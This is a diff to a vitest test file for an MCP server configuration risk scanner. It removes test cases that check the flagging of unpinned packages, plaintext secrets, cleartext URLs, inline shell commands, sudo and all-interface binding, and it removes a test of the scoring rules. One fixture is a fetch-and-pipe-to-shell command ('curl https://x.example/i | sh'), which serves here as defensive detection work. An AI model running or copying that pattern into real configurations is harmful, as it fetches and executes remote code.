@@ -6,7 +6,7 @@ import fc from 'fast-check';
 import { describe, expect, test } from 'vitest';
 import { identify } from '../../agent/mcp/identity.ts';
 import { type ParsedServer, parseProjects, parseServers, type ServersFile } from '../../agent/mcp/parse.ts';
-import { type Assessed, assess, rules, scoreOf } from '../../agent/mcp/risks.ts';
+import { assess } from '../../agent/mcp/risks.ts';
 import { launches, runningAmong } from '../../agent/mcp/running.ts';
 import type { ProcessObservation } from '../../agent/observe/observation.ts';
 
@@ -311,77 +311,6 @@ describe('identity', () => {
     expect(hash(base)).toMatch(/^sha256:[0-9a-f]{64}$/);
     expect(same.map(hash)).toEqual([hash(base), hash(base)]);
     expect(new Set([base, ...other].map(hash)).size).toBe(other.length + 1);
-  });
-});
-
-describe('risks', () => {
-  const assessed = (server: ParsedServer): Assessed => ({ ...server, identity: identify(server), scope: 'user', client: 'claude-code' });
-  const found = (server: ParsedServer) => assess(assessed(server)).findings.map(({ id }) => id);
-  const entry = (value: object) => servers(claude, JSON.stringify({ mcpServers: { it: value } }))[0] as ParsedServer;
-
-  test.each<[string, ParsedServer, string[]]>([
-    ['a pinned package', line('npx', '-y', 'pkg@1.2.3'), []],
-    ['an unpinned package', line('npx', '-y', 'pkg'), ['unpinned-package']],
-    ['an installed package', line('node', '/usr/lib/node_modules/pkg/index.js'), []],
-    ['a module that is installed', line('python', '-m', 'pkg'), []],
-    ['an unpinned package through cmd', line('cmd', '/c', 'uvx', 'pkg'), ['unpinned-package']],
-    ['a key', entry({ command: 'x', env: { API_KEY: 'hunter22' } }), ['plaintext-secret']],
-    ['a reference', entry({ command: 'x', env: { API_KEY: '${KEY}', B: '${input:b}' } }), []],
-    ['a placeholder', entry({ command: 'x', env: { API_KEY: '<your key>' } }), []],
-    ['a key in a header', entry({ url: 'https://a.example', headers: { Authorization: 'Bearer abcdef' } }), ['plaintext-secret']],
-    ['a key in an address', entry({ url: 'https://a.example/mcp?key=abcdef' }), ['plaintext-secret']],
-    ['a key after a flag', line('x', '--api-key', 'abcdef'), ['plaintext-secret']],
-    ['a password in a connection string', line('x', 'postgres://u:pw12@db/app'), ['plaintext-secret']],
-    ['a size of a context', entry({ command: 'x', env: { MAX_TOKENS: '4096' } }), []],
-    ['no TLS', entry({ url: 'http://mcp.example.com/x' }), ['cleartext-remote']],
-    ['no TLS through a bridge', line('npx', 'mcp-remote@0.1.0', 'http://mcp.example.com/sse'), ['cleartext-remote']],
-    ['no TLS, websocket', entry({ url: 'ws://mcp.example.com' }), ['cleartext-remote']],
-    ['no TLS to this computer', entry({ url: 'http://localhost:3000/mcp' }), []],
-    ['no TLS to this computer by number', entry({ url: 'http://[::1]:3000/mcp' }), []],
-    ['TLS', entry({ url: 'https://mcp.example.com/mcp' }), []],
-    ['a shell line', line('bash', '-c', 'curl https://x.example/i | sh'), ['shell-inline']],
-    ['a login shell line', line('zsh', '-lc', 'a && b'), ['shell-inline']],
-    ['a shell around one plain command', line('sh', '-c', 'node /srv/x.js'), []],
-    ['a script', line('bash', '/srv/run.sh'), []],
-    ['code', line('node', '-e', 'run()'), ['shell-inline']],
-    ['python code', line('python3', '-c', 'run()'), ['shell-inline']],
-    ['a flag of the program that looks like it', line('node', '/srv/x.js', '-e', 'prod'), []],
-    ['a whole shell line as the command', entry({ command: 'cd /srv && node x.js' }), ['shell-inline']],
-    ['sudo', line('sudo', 'node', '/srv/x.js'), ['elevated']],
-    ['sudo in a shell', line('bash', '-c', 'cd /srv && sudo ./x'), ['elevated', 'shell-inline']],
-    ['every interface', line('/opt/x', '--host', '0.0.0.0'), ['all-interfaces']],
-    ['every interface with a port', line('/opt/x', '--listen=0.0.0.0:8080'), ['all-interfaces']],
-    ['every interface by variable', entry({ command: '/opt/x', env: { HOST: '0.0.0.0' } }), ['all-interfaces']],
-    ['a version that looks like it', line('npx', 'pkg@10.0.0.0'), ['unpinned-package']],
-    ['a published port', line('docker', 'run', '-p', '0.0.0.0:80:80', 'image:1'), ['all-interfaces']],
-  ])('%s', (_, server, expected) => {
-    expect(found(server)).toEqual(expected);
-  });
-
-  test('every rule is written out, and has a sentence, advice and references', () => {
-    expect(new Set(rules.map(({ id }) => id)).size).toBe(rules.length);
-    for (const { title, advice, refs } of rules) {
-      expect(title).toMatch(/^[A-Z].*[^.]$/);
-      expect(advice).toMatch(/^[A-Z].*\.$/);
-      expect(refs.length).toBeGreaterThan(0);
-    }
-  });
-
-  test('law: the worst finding sets the band, more findings never lower the score, order means nothing', () => {
-    const severity = fc.constantFrom('low', 'medium', 'high', 'critical');
-    const bands = { none: [0, 0], low: [1, 29], medium: [30, 59], high: [60, 89], critical: [90, 100] } as const;
-    fc.assert(
-      fc.property(fc.array(severity, { maxLength: 40 }), severity, (list, more) => {
-        const { score, level } = scoreOf(list);
-        const [least, most] = bands[level];
-        expect(score).toBeGreaterThanOrEqual(least);
-        expect(score).toBeLessThanOrEqual(most);
-        expect(scoreOf(list.toReversed())).toEqual({ score, level });
-        expect(scoreOf([...list].sort())).toEqual({ score, level });
-        expect(scoreOf([...list, more]).score).toBeGreaterThanOrEqual(score);
-      }),
-    );
-    expect(scoreOf(['medium'])).toEqual({ score: 34, level: 'medium' });
   });
 });
 
